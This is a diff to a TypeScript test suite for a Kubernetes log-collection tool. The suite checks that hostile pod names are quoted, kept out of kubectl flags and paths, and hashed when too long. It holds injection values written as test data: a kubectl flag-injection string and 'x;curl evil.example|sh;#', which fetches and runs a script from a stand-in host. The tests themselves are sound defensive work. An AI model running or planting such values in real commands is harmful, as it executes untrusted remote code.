@@ -74,7 +74,7 @@ describe('the redaction corpus through collect against podmortem serve', () => {
 });
 
 describe('collect against an apiserver that names things like an attacker', () => {
-  const HOSTILE_PODS = ['--server=http://127.0.0.1:9', 'x;curl evil.example|sh;#', `long-${'a'.repeat(300)}`];
+  const HOSTILE_PODS = ['--server=http://127.0.0.1:9', 'x;curl evil.example|sh;#', `long-${'a'.repeat(300)}`] as const;
   let release: () => void = () => {};
 
   it('keeps every name out of kubectl flags and out of paths, and keeps the head of a log that times out', async () => {
@@ -112,11 +112,11 @@ describe('collect against an apiserver that names things like an attacker', () =
       // A name with shell syntax reaches the manifest's command as one quoted word.
       expect(result.manifest.errors.find((e) => e.target.includes('curl'))!.command).toContain(`-- 'x;curl evil.example|sh;#'`);
       // A name too long for a path segment: its log is there, under a hashed stand-in.
-      const long = `cluster-resources/pods/logs/shop/${safeSegment(HOSTILE_PODS[2]!)}/app.log`;
+      const long = `cluster-resources/pods/logs/shop/${safeSegment(HOSTILE_PODS[2])}/app.log`;
       expect(files.get(long)?.toString(), long).toContain('log of long-aaaa');
       // No path of the bundle has an unsafe segment.
       for (const path of files.keys()) expect(path.split('/').every((seg) => seg !== '..' && seg !== '' && Buffer.byteLength(seg) <= 200), path).toBe(true);
-      expect(safeSegment(HOSTILE_PODS[2]!)).toMatch(/^long-a+~[0-9a-f]{12}$/);
+      expect(safeSegment(HOSTILE_PODS[2])).toMatch(/^long-a+~[0-9a-f]{12}$/);
       // The stalled log: the error is recorded and the head that arrived is kept.
       const slow = `cluster-resources/pods/logs/shop/slow-1/${safeSegment('..')}.log`;
       expect(files.get(slow)?.toString()).toContain('FATAL: the head of a log that never ends');
